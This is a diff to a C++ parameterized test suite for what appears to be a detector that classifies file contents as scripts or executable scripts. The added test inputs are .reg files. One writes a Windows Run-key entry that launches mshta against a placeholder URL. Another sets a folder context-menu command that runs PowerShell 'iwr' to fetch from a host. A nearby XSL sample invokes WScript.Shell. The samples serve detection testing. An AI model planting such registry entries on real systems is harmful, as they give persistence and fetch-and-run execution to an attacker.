@@ -157,6 +157,20 @@ INSTANTIATE_TEST_SUITE_P(
              "implements-prefix=\"u\" language=\"JScript\"><![CDATA[if(false){new "
              "ActiveXObject(\"WScript.Shell\").Run(\"mshta INERT\");}]]></ms:script></stylesheet>",
              "a.xsl", "file.script script.exec"},
+        Case{"registry_starts_what_it_fetches",
+             "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\"
+             "CurrentVersion\\Run]\r\n\"u\"=\"mshta http://example.invalid/inert\"\r\n",
+             "a.reg", "file.script script.exec"},
+        Case{
+            "registry_starts_a_program",
+            "REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"n\"=\"C:"
+            "\\\\tools\\\\notes.exe\"\r\n",
+            "a.reg", "file.script"},
+        Case{"registry_of_a_menu",
+             "REGEDIT4\r\n[HKEY_CLASSES_ROOT\\Directory\\shell\\ps\\command]\r\n@=\"powershell.exe -noexit "
+             "iwr "
+             "http://intranet/a\"\r\n",
+             "a.reg", "file.script"},
         Case{"style_sheet_that_counts",
              "<?xml version=\"1.0\"?><xsl:stylesheet><msxsl:script implements-prefix=\"u\" "
              "language=\"C#\">public int Sum(int a) { return a + 1; }</msxsl:script></xsl:stylesheet>",
